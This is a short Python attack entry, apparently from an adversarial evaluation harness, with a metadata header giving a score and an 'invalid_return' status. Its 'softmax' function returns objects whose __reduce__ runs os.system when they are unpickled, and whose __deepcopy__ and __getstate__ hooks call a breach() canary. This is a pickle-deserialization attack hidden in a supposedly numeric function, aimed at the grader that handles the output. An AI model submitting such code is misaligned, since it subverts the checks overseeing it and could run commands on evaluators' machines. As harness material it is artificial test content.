# /// attack
# tries = "returns objects that run a command where they are unpickled or copied"
# score = 83.75
# status = ["invalid_return"]
# ///
class Command:
    def __reduce__(self):
        breach("__reduce__ was asked")
        return os.system, ("touch /tmp/@NAME@",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __deepcopy__ = lambda self, memo: breach("__deepcopy__ was asked")
    __getstate__ = lambda self: breach("__getstate__ was asked")


def softmax(z):
    return Command() if z.ndim == 1 else {"p": [Command()]}
